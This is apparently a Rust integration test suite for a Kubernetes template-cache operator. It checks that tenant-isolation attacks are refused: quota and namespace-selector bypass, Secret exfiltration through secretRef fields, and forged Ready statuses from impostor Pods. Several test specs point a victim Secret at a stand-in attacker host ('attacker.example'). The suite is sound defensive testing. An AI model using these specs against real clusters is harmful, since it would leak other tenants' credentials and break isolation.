//! A namespace user attacking the others, against the real API server: a store outside its
//! namespace selector, a namespace past its quota, a copy Job that could reach other tenants'
//! folders, a Secret handed to the mover by someone who may not read it, and a forged Ready from a
//! Pod running as the mover's account. Each attack is refused with a clear reason, nothing of
//! the other tenant's is lost, and each is recorded in the bad-input corpus.

mod support;

use std::process::{Command, Stdio};
use std::time::Duration;

use k8s_openapi::api::batch::v1::Job;
use k8s_openapi::api::core::v1::{Namespace, Pod};
use kube::api::{Patch, PatchParams, PostParams};
use kube::config::{AuthInfo, KubeConfigOptions, Kubeconfig};
use kube::{Api, Client, Config};
use serde_json::{Value, json};
use support::corpus::record;
use support::http_server::HttpServer;
use support::jobs::wait_for_cache;
use support::operator::{Operator, TestStore, config};
use support::rig::{Rig, random_bytes, ready_message, sha256};
use support::{TestNamespace, kubectl};
use templatecache::api::{Phase, StagingStore, TemplateCache, TemplateCacheClaim};
use templatecache::controller::conditions::{READY, find};
use templatecache::controller::template_cache::lifecycle::reason;

const MIB: usize = 1 << 20;

/// Waits until the cache's Ready condition has `wanted` as its reason; returns its message.
async fn ready_reason(ns: &TestNamespace, name: &str, wanted: &'static str) -> String {
    let cache = wait_for_cache(&ns.client, &ns.name, name, wanted, move |c| {
        let ready = c.status.as_ref().and_then(|s| find(&s.conditions, READY));
        ready.is_some_and(|r| r.reason == wanted)
    })
    .await;
    ready_message(&cache)
}

async fn patch_store(rig: &Rig, spec: Value) {
    Api::<StagingStore>::all(rig.ns.client.clone())
        .patch(
            &rig.store.name,
            &PatchParams::default(),
            &Patch::Merge(json!({ "spec": spec })),
        )
        .await
        .expect("patch the store's tenancy rules");
}

/// A 1 MiB template named `name` on `server`, and a cache spec for it.
fn template(server: &HttpServer, name: &str) -> (Vec<u8>, Value) {
    let mut bytes = random_bytes(MIB);
    bytes[..name.len()].copy_from_slice(name.as_bytes());
    server.put(name, &bytes);
    let spec = json!({"source": {"http": {"url": server.url(name)}}, "checksum": sha256(&bytes)});
    (bytes, spec)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_store_outside_the_namespace_selector_starts_no_job_until_the_namespace_is_admitted() {
    let rig = Rig::new("tenant-sel", 3).await;
    let label = format!("{}-admitted", rig.ns.name);
    patch_store(
        &rig,
        json!({"namespaceSelector": {"matchLabels": {"templatecache.io/tenant": label}}}),
    )
    .await;
    let server = HttpServer::start().await;
    let (bytes, spec) = template(&server, "disk.img");
    rig.create("image", spec).await;

    let message = ready_reason(&rig.ns, "image", reason::STORE_NOT_ALLOWED).await;
    record(
        "hostile tenant: a cache in a namespace outside the StagingStore's namespaceSelector",
        &format!(
            "refused room, Ready reason {}: {message}",
            reason::STORE_NOT_ALLOWED
        ),
    );
    for part in [
        rig.store.name.as_str(),
        rig.ns.name.as_str(),
        label.as_str(),
    ] {
        assert!(
            message.contains(part),
            "the refusal names {part}: {message}"
        );
    }
    let jobs = rig
        .ns
        .api::<Job>()
        .list(&Default::default())
        .await
        .expect("Jobs");
    assert!(
        jobs.items.is_empty(),
        "no Job, so no Pod mounts the store for this namespace"
    );
    assert!(
        rig.files().is_empty(),
        "nothing is written: {:?}",
        rig.files()
    );

    // The same cache gets its room once its namespace carries the label.
    let labels = json!({"metadata": {"labels": {"templatecache.io/tenant": label}}});
    Api::<Namespace>::all(rig.ns.client.clone())
        .patch(&rig.ns.name, &PatchParams::default(), &Patch::Merge(labels))
        .await
        .expect("label the namespace");
    rig.assert_copied("image", &bytes).await;
    rig.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_namespace_past_its_quota_gets_no_room_and_its_first_copy_is_untouched() {
    let rig = Rig::new("tenant-quota", 3).await;
    patch_store(&rig, json!({"namespaceQuota": "1Mi"})).await;
    let server = HttpServer::start().await;
    let (first, spec) = template(&server, "first.img");
    rig.create("first", spec).await;
    rig.assert_copied("first", &first).await;

    let (_, spec) = template(&server, "second.img");
    rig.create("second", spec).await;
    let message = ready_reason(&rig.ns, "second", reason::QUOTA_EXCEEDED).await;
    record(
        "hostile tenant: a namespace copying past the StagingStore's namespaceQuota (1Mi held, 1Mi more asked)",
        &format!(
            "refused room, Ready reason {}: {message}",
            reason::QUOTA_EXCEEDED
        ),
    );
    let quota = MIB.to_string();
    for part in [rig.store.name.as_str(), rig.ns.name.as_str(), &quota] {
        assert!(
            message.contains(part),
            "the refusal names {part}: {message}"
        );
    }
    assert_eq!(rig.files(), ["first"], "the second copy wrote nothing");
    assert_eq!(std::fs::read(rig.data("first")).expect("first"), first);
    rig.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_copy_job_mounts_only_its_namespaces_folder_of_the_store() {
    let rig = Rig::new("tenant-subpath", 3).await;
    let server = HttpServer::start().await;
    let (bytes, spec) = template(&server, "disk.img");
    rig.create("image", spec).await;
    rig.assert_copied("image", &bytes).await;

    let job: Job = rig.ns.api().get("image-copy-1").await.expect("copy Job");
    let pod = job.spec.expect("spec").template.spec.expect("pod spec");
    let container = &pod.containers[0];
    let mount = &container.volume_mounts.as_ref().expect("mounts")[0];
    assert_eq!(mount.sub_path.as_deref(), Some(rig.ns.name.as_str()));
    let args = container.args.clone().unwrap_or_default();
    assert!(
        args.contains(&format!("--dest={}/image", mount.mount_path)),
        "the mover writes inside the mounted folder: {args:?}"
    );
    rig.stop().await;
}

/// The helm binary, built once into .cache/helm.
fn helm() -> Command {
    let out = Command::new(support::repo_root().join("hack/helm/build.sh"))
        .output()
        .expect("run hack/helm/build.sh");
    assert!(out.status.success(), "building helm failed");
    Command::new(String::from_utf8_lossy(&out.stdout).trim())
}

/// The chart's admission policies for a release whose mover account is `mover`, bound to
/// `namespace` only (the control plane is shared with other tests), applied; deleted on drop.
struct Policies {
    manifest: String,
}

impl Policies {
    fn install(namespace: &str, mover: &str) -> Self {
        let release = format!("p{}", std::process::id());
        let out = helm()
            .current_dir(support::repo_root())
            .args(["template", &release, "charts/templatecache-operator"])
            .args(["--namespace", namespace])
            .args(["--set", &format!("copyJobs.serviceAccountName={mover}")])
            // The test makes the copy Job's Pods itself, as the admin, in the Job controller's
            // place (there is no Job controller here).
            .args(["--set-json", r#"copyJobs.podCreators=["admin"]"#])
            .args(["--show-only", "templates/admissionpolicies.yaml"])
            .output()
            .expect("helm template");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let mut objects = vec![];
        for doc in serde_yaml::Deserializer::from_str(&String::from_utf8_lossy(&out.stdout)) {
            let mut object: Value = serde::Deserialize::deserialize(doc).expect("YAML");
            if object.is_null() {
                continue;
            }
            // Bound to this test's release, with other names: unique per test binary.
            let name = object["metadata"]["name"]
                .as_str()
                .unwrap_or_default()
                .to_owned();
            object["metadata"]["name"] = json!(format!("{name}-{namespace}"));
            if object["kind"] == "ValidatingAdmissionPolicyBinding" {
                let policy = object["spec"]["policyName"].as_str().unwrap_or_default();
                object["spec"]["policyName"] = json!(format!("{policy}-{namespace}"));
                object["spec"]["matchResources"] = json!({"namespaceSelector":
                    {"matchLabels": {"kubernetes.io/metadata.name": namespace}}});
            }
            objects.push(object);
        }
        assert_eq!(objects.len(), 6, "three policies and their bindings");
        let manifest =
            serde_json::to_string(&json!({"apiVersion": "v1", "kind": "List", "items": objects}))
                .expect("manifest");
        kubectl_stdin(&["apply", "-f", "-"], &manifest).expect("apply the policies");
        Self { manifest }
    }
}

impl Drop for Policies {
    fn drop(&mut self) {
        let _ = kubectl_stdin(&["delete", "--ignore-not-found", "-f", "-"], &self.manifest);
    }
}

/// Policies take effect a moment after they are created (the API server compiles them in the
/// background): waits until `probe`, a dry run of an attack, is refused.
async fn until_refused<F, T>(what: &str, probe: impl Fn() -> F)
where
    F: std::future::Future<Output = kube::Result<T>>,
{
    for _ in 0..150 {
        if probe().await.is_err() {
            return;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    panic!("the admission policies never refused {what}");
}

fn dry_run() -> PatchParams {
    PatchParams {
        dry_run: true,
        ..PatchParams::default()
    }
}

fn kubectl_stdin(args: &[&str], input: &str) -> Result<String, String> {
    let mut child = kubectl()
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("kubectl");
    std::io::Write::write_all(&mut child.stdin.take().expect("stdin"), input.as_bytes())
        .expect("write to kubectl");
    let out = child.wait_with_output().expect("kubectl output");
    if out.status.success() {
        Ok(String::from_utf8_lossy(&out.stdout).into_owned())
    } else {
        Err(String::from_utf8_lossy(&out.stderr).into_owned())
    }
}

fn kubectl_ok(args: &[&str]) -> String {
    let out = kubectl().args(args).output().expect("kubectl");
    assert!(
        out.status.success(),
        "kubectl {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

/// A ServiceAccount with `rules` in its own Role, and a client authenticated with a token of
/// it (bound to `pod`, name and uid, when given: `kubectl create token --bound-object-kind Pod`).
async fn account(ns: &str, name: &str, rules: &[&[&str]]) {
    kubectl_ok(&["-n", ns, "create", "serviceaccount", name]);
    for (i, rule) in rules.iter().enumerate() {
        let role = format!("{name}-{i}");
        let mut args = vec!["-n", ns, "create", "role", &role];
        args.extend_from_slice(rule);
        kubectl_ok(&args);
        let subject = format!("--serviceaccount={ns}:{name}");
        kubectl_ok(&[
            "-n",
            ns,
            "create",
            "rolebinding",
            &role,
            "--role",
            &role,
            &subject,
        ]);
    }
}

async fn client_as(ns: &str, account: &str, pod: Option<&Pod>) -> Client {
    let mut args = vec![
        "-n".to_owned(),
        ns.to_owned(),
        "create".into(),
        "token".into(),
    ];
    args.push(account.to_owned());
    if let Some(pod) = pod {
        args.extend(["--bound-object-kind".into(), "Pod".into()]);
        args.push(format!(
            "--bound-object-name={}",
            pod.metadata.name.clone().unwrap_or_default()
        ));
        args.push(format!(
            "--bound-object-uid={}",
            pod.metadata.uid.clone().unwrap_or_default()
        ));
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let token = kubectl_ok(&args);
    let kubeconfig = Kubeconfig::read_from(support::kubeconfig_path()).expect("kubeconfig");
    let mut config = Config::from_custom_kubeconfig(kubeconfig, &KubeConfigOptions::default())
        .await
        .expect("config");
    config.auth_info = AuthInfo {
        token: Some(token.into()),
        ..Default::default()
    };
    Client::try_from(config).expect("client")
}

fn refusal(result: Result<impl std::fmt::Debug, kube::Error>, what: &str) -> String {
    match result {
        Err(kube::Error::Api(status)) => status.message,
        other => panic!("{what} must be refused, got {other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tenant_cannot_hand_the_mover_a_secret_it_may_not_read() {
    let ns = TestNamespace::new("tenant-secret").await;
    let _policies = Policies::install(&ns.name, "unused-mover");
    kubectl_ok(&[
        "-n",
        &ns.name,
        "create",
        "secret",
        "generic",
        "victim",
        "--from-literal=token=s3cr3t",
    ]);
    let caches = "templatecaches.templatecache.io,templatecacheclaims.templatecache.io";
    let write = ["--verb=create,get", "--resource", caches];
    account(&ns.name, "tenant", &[&write]).await;
    account(
        &ns.name,
        "reader",
        &[&write, &["--verb=get", "--resource=secrets"]],
    )
    .await;
    let tenant = client_as(&ns.name, "tenant", None).await;
    let reader = client_as(&ns.name, "reader", None).await;

    let http =
        json!({"http": {"url": "http://attacker.example/x", "secretRef": {"name": "victim"}}});
    let s3 = json!({"s3": {"bucket": "loot", "key": "k", "secretRef": {"name": "victim"}}});
    let oci =
        json!({"oci": {"reference": "attacker.example/loot:v1", "secretRef": {"name": "victim"}}});
    until_refused("a cache naming a Secret", || {
        let api: Api<TemplateCache> = Api::namespaced(tenant.clone(), &ns.name);
        let cache: TemplateCache = serde_json::from_value(json!({
            "apiVersion": "templatecache.io/v1alpha1", "kind": "TemplateCache",
            "metadata": {"name": "probe"}, "spec": {"source": http}
        }))
        .expect("cache");
        async move {
            let dry = PostParams {
                dry_run: true,
                ..PostParams::default()
            };
            api.create(&dry, &cache).await
        }
    })
    .await;
    let attempts = [
        (
            "a TemplateCache naming Secret victim in spec.source.http.secretRef",
            "cache",
            json!({"source": http}),
            "spec.source.http.secretRef",
        ),
        (
            "a TemplateCache naming Secret victim in spec.source.s3.secretRef",
            "cache",
            json!({"source": s3}),
            "spec.source.s3.secretRef",
        ),
        (
            "a TemplateCache naming Secret victim in spec.source.oci.secretRef",
            "cache",
            json!({"source": oci}),
            "spec.source.oci.secretRef",
        ),
        (
            "a TemplateCacheClaim whose OCI template names Secret victim",
            "claim",
            json!({"cacheName": "loot-oci", "template": {"source": oci}}),
            "spec.template.source.oci.secretRef",
        ),
        (
            "a TemplateCacheClaim whose template names Secret victim",
            "claim",
            json!({"cacheName": "loot", "template": {"source": http}}),
            "spec.template.source.http.secretRef",
        ),
    ];
    for (i, (case, kind, spec, field)) in attempts.into_iter().enumerate() {
        let name = format!("steal-{i}");
        let result = create(&tenant, &ns.name, kind, &name, spec.clone()).await;
        let message = refusal(result, case);
        record(
            &format!("hostile tenant (secret exfiltration): {case}, by a user who may not read it"),
            &message,
        );
        for part in [field, "victim", "may not get Secret"] {
            assert!(
                message.contains(part),
                "the refusal names {part}: {message}"
            );
        }
        // Someone who may read the Secret may use it: the policy judges the creator.
        create(&reader, &ns.name, kind, &name, spec)
            .await
            .unwrap_or_else(|e| panic!("{case} by a reader of the Secret is admitted: {e}"));
    }
    create(
        &tenant,
        &ns.name,
        "cache",
        "plain",
        json!({"source": {"http": {"url": "http://example/x"}}}),
    )
    .await
    .expect("a cache without credentials is admitted");
    ns.delete().await;
}

async fn create(
    client: &Client,
    ns: &str,
    kind: &str,
    name: &str,
    spec: Value,
) -> kube::Result<()> {
    let pp = PostParams::default();
    if kind == "cache" {
        let cache: TemplateCache =
            serde_json::from_value(json!({"apiVersion": "templatecache.io/v1alpha1",
            "kind": "TemplateCache", "metadata": {"name": name}, "spec": spec}))
            .expect("cache");
        Api::namespaced(client.clone(), ns)
            .create(&pp, &cache)
            .await
            .map(drop)
    } else {
        let claim: TemplateCacheClaim =
            serde_json::from_value(json!({"apiVersion": "templatecache.io/v1alpha1",
            "kind": "TemplateCacheClaim", "metadata": {"name": name}, "spec": spec}))
            .expect("claim");
        Api::namespaced(client.clone(), ns)
            .create(&pp, &claim)
            .await
            .map(drop)
    }
}

/// A Pod running as `account`, created as the Job controller would (`generate_name`) or under a
/// name of the attacker's choice.
async fn mover_pod(
    ns: &TestNamespace,
    account: &str,
    name: Option<&str>,
    generate: Option<&str>,
) -> Pod {
    let pod: Pod = serde_json::from_value(json!({
        "metadata": {"name": name, "generateName": generate},
        "spec": {"serviceAccountName": account, "containers": [{"name": "mover", "image": "x"}]}
    }))
    .expect("pod");
    ns.api()
        .create(&PostParams::default(), &pod)
        .await
        .expect("create the Pod")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pod_running_as_the_mover_cannot_forge_ready_and_nothing_ungates() {
    let ns = TestNamespace::new("tenant-forge").await;
    let mover = format!("mover-{}", std::process::id());
    let _policies = Policies::install(&ns.name, &mover);
    account(
        &ns.name,
        &mover,
        &[&[
            "--verb=get,patch",
            "--resource=templatecaches.templatecache.io,templatecaches.templatecache.io/status",
        ]],
    )
    .await;
    let store = TestStore::new(&ns.client, &format!("{}-store", ns.name), "1Gi").await;
    // No executor: the copy Job never runs, so the cache stays Copying unless someone lies.
    let operator = Operator::start(config(&ns.name, &store.name)).await;
    ns.create_cache(
        "image",
        json!({"source": {"http": {"url": "http://example/x"}}}),
    )
    .await;
    wait_for_cache(&ns.client, &ns.name, "image", "Copying", |c| {
        c.status.as_ref().and_then(|s| s.job_name.as_deref()) == Some("image-copy-1")
    })
    .await;
    let consumer: Pod = serde_json::from_value(json!({
        "metadata": {"name": "consumer", "labels": {"templatecache.io/cache": "image"}},
        "spec": {"schedulingGates": [{"name": "templatecache.io/ready"}],
                 "serviceAccountName": mover, "automountServiceAccountToken": false,
                 "containers": [{"name": "app", "image": "x"}]}
    }))
    .expect("consumer");
    ns.api::<Pod>()
        .create(&PostParams::default(), &consumer)
        .await
        .expect("gated Pod");

    let job_pod = mover_pod(&ns, &mover, None, Some("image-copy-1-")).await;
    let impostor = mover_pod(&ns, &mover, Some("evil"), None).await;
    let forged = json!({"status": {"phase": "Ready", "size": 1,
        "checksum": format!("sha256:{}", "0".repeat(64)),
        "progress": {"attempt": 1, "bytesCopied": 1, "totalBytes": 1, "checksum": format!("sha256:{}", "0".repeat(64))}}});
    let probe: Api<TemplateCache> =
        Api::namespaced(client_as(&ns.name, &mover, Some(&impostor)).await, &ns.name);
    until_refused("a forged status", || {
        let probe = probe.clone();
        let forged = forged.clone();
        async move {
            let patch = Patch::Merge(&forged);
            probe.patch_status("image", &dry_run(), &patch).await
        }
    })
    .await;
    let attempts = [
        (
            "forged Ready from a Pod of the namespace running as the mover's account",
            Some(&impostor),
            "only a Pod of the current copy Job image-copy-1",
        ),
        (
            "forged Ready from a Pod of the current copy Job",
            Some(&job_pod),
            "may change only status.progress",
        ),
        (
            "forged Ready with a mover token bound to no Pod",
            None,
            "only a Pod of the current copy Job",
        ),
    ];
    for (case, pod, expected) in attempts {
        let client = client_as(&ns.name, &mover, pod).await;
        let caches: Api<TemplateCache> = Api::namespaced(client, &ns.name);
        let result = caches
            .patch_status("image", &PatchParams::default(), &Patch::Merge(&forged))
            .await;
        let message = refusal(result, case);
        record(&format!("hostile tenant (forged status): {case}"), &message);
        assert!(message.contains(expected), "{case}: {message}");
    }
    // Nor can a namespace user make such a Pod (or a Job to make it) run as the mover.
    let workloads = "--resource=pods,jobs.batch";
    account(&ns.name, "tenant", &[&["--verb=create", workloads]]).await;
    let tenant = client_as(&ns.name, "tenant", None).await;
    let pod: Pod = serde_json::from_value(json!({
        "metadata": {"name": "image-copy-1-zzzzz"},
        "spec": {"serviceAccountName": mover, "containers": [{"name": "m", "image": "x"}]}
    }))
    .expect("pod");
    let result = Api::<Pod>::namespaced(tenant.clone(), &ns.name)
        .create(&PostParams::default(), &pod)
        .await;
    let message = refusal(result, "a Pod named like the copy Job's");
    record(
        "hostile tenant (forged status): a Pod named like the copy Job's Pod, running as the mover's account",
        &message,
    );
    assert!(
        message.contains("only the Job controller may create Pods"),
        "{message}"
    );
    let job: Job = serde_json::from_value(json!({
        "metadata": {"name": "image-copy-2"},
        "spec": {"template": {"spec": {"serviceAccountName": mover, "restartPolicy": "Never",
                 "containers": [{"name": "m", "image": "x"}]}}}
    }))
    .expect("job");
    let result = Api::<Job>::namespaced(tenant, &ns.name)
        .create(&PostParams::default(), &job)
        .await;
    let message = refusal(result, "a Job running as the mover");
    record(
        "hostile tenant (forged status): a Job under the next attempt's name, running as the mover's account",
        &message,
    );
    assert!(
        message.contains("only the templatecache operator may create Jobs"),
        "{message}"
    );

    // The real mover's one right: progress, from a Pod of the current Job.
    let progress =
        json!({"status": {"progress": {"attempt": 1, "bytesCopied": 7, "totalBytes": 9}}});
    let client = client_as(&ns.name, &mover, Some(&job_pod)).await;
    Api::<TemplateCache>::namespaced(client, &ns.name)
        .patch_status("image", &PatchParams::default(), &Patch::Merge(&progress))
        .await
        .expect("the current Job's Pod reports progress");

    tokio::time::sleep(Duration::from_secs(3)).await;
    let cache: TemplateCache = ns.api().get("image").await.expect("cache");
    let status = cache.status.expect("status");
    assert_ne!(status.phase, Some(Phase::Ready), "no forged Ready landed");
    assert_eq!(status.progress.map(|p| p.bytes_copied), Some(7));
    let consumer: Pod = ns.api().get("consumer").await.expect("consumer");
    let gates = consumer
        .spec
        .and_then(|s| s.scheduling_gates)
        .unwrap_or_default();
    assert_eq!(gates.len(), 1, "the consumer Pod stays gated");
    operator.stop().await;
    store.delete().await;
    ns.delete().await;
}
